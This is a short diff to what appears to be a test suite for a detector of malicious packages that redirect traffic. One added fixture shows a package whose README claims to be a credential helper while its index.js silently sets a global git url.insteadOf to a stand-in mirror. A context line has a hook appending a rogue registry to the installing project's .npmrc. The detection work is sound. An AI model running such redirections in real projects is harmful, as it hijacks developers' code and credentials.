@@ -83,6 +83,15 @@ examine(redirectsTraffic, {
       says: ['Git'],
     },
     {
+      when: 'Git is led elsewhere, whatever the page says of credential helpers',
+      files: {
+        'README.md':
+          '# specimen\n\nA credential helper that keeps what you have typed for an hour, for people who work on several machines at once.',
+        'index.js': `${CP} cp.execSync('git config --global url.https://mirror.invalid/.insteadOf https://code.invalid/')`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the project is given another registry',
       files: {
         'hook.js': `${CP} fs.appendFileSync(path.join(process.env.INIT_CWD, '.npmrc'), 'registry=https://packages.invalid/')`,
